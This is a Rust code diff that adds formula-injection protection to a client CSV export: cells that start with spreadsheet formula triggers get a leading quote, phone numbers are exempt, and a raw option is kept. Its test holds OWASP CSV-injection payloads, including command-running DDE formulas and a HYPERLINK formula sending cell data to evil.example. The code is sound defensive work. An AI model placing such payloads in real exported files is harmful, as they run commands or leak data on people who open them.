@@ -14,6 +14,8 @@
 //! "Primary contact" is the contact whose link says `IsPrimary` and that is not deleted. A client
 //! whose contacts have no primary is treated as having no contact (HowNow keeps only the primary).
 
+use std::borrow::Cow;
+
 use hownow_xpm::{Client, Contact};
 use rusqlite::params;
 use serde::Serialize;
@@ -116,6 +118,50 @@ impl HowNowRecord {
             flag(self.is_archived),
         ]
     }
+
+    /// [`Self::csv_row`] as a file for people is written: every cell a spreadsheet would take
+    /// for a formula made inert ([`inert_cell`]), unless `values` is [`CsvValues::Raw`] (for a
+    /// machine import that wants XPM's values unchanged).
+    pub fn csv_row_as(&self, values: CsvValues) -> [Cow<'_, str>; 17] {
+        self.csv_row().map(|cell| match values {
+            CsvValues::Inert => inert_cell(cell),
+            CsvValues::Raw => Cow::Borrowed(cell),
+        })
+    }
+}
+
+/// How exported CSV cells are written.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum CsvValues {
+    /// Cells that would start a formula are prefixed with `'` (the default: exports are opened
+    /// in Excel and LibreOffice, and client names, emails and notes are typed by anyone).
+    #[default]
+    Inert,
+    /// XPM's values unchanged.
+    Raw,
+}
+
+/// A cell that a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return, or a fullwidth `＝ ＋ － ＠`) gets a leading `'`, which spreadsheets show as
+/// text and do not evaluate (OWASP's CSV injection advice). A plain phone number such as
+/// `+64 9 123 4567` is left as it is.
+pub fn inert_cell(cell: &str) -> Cow<'_, str> {
+    const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+    match cell.chars().next() {
+        Some(first) if TRIGGERS.contains(&first) && !is_phone_number(cell) => Cow::Owned(format!("'{cell}")),
+        _ => Cow::Borrowed(cell),
+    }
+}
+
+/// `+` and then only digits, spaces, dashes, dots and parentheses, with at least six digits.
+fn is_phone_number(cell: &str) -> bool {
+    let Some(rest) = cell.strip_prefix('+') else {
+        return false;
+    };
+    rest.chars()
+        .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '.' | '(' | ')'))
+        && rest.chars().filter(char::is_ascii_digit).count() >= 6
+        && rest.starts_with(|c: char| c.is_ascii_digit())
 }
 
 /// A value with content: trimmed, and `None` when empty.
@@ -464,6 +510,49 @@ mod tests {
         let r = record(&c, CodeFallback::None);
         assert!(r.is_individual && r.is_archived && !r.is_active);
         assert_eq!(r.uuid, "u1");
+    }
+
+    #[test]
+    fn formula_like_cells_are_made_inert_but_phone_numbers_are_not() {
+        // OWASP's CSV-injection payloads, and their cousins.
+        for payload in [
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\u{FF1D}1+1",
+            "\u{FF0B}1+1",
+            "\u{FF0D}1+1",
+            "\u{FF20}SUM(1)",
+            "+64 9 123 4567 =cmd",
+            "+(1)",
+        ] {
+            assert_eq!(inert_cell(payload), format!("'{payload}"), "{payload:?}");
+        }
+        for plain in [
+            "+64 9 123 4567",
+            "+1 (800) 555-0100",
+            "+61.2.9999.0000",
+            "Harbour & Co",
+            "",
+            "a=b",
+            "o'brien@example.com",
+        ] {
+            assert_eq!(inert_cell(plain), plain, "{plain:?}");
+        }
+        let mut c = client();
+        c.name = Some("=HYPERLINK(\"x\")".into());
+        c.phone = Some("+64 9 123 4567".into());
+        let r = record(&c, CodeFallback::None);
+        let inert = r.csv_row_as(CsvValues::Inert);
+        let raw = r.csv_row_as(CsvValues::Raw);
+        assert_eq!(inert[2], "'=HYPERLINK(\"x\")");
+        assert_eq!(raw[2], "=HYPERLINK(\"x\")");
+        assert_eq!(inert[3], "+64 9 123 4567");
     }
 
     #[test]
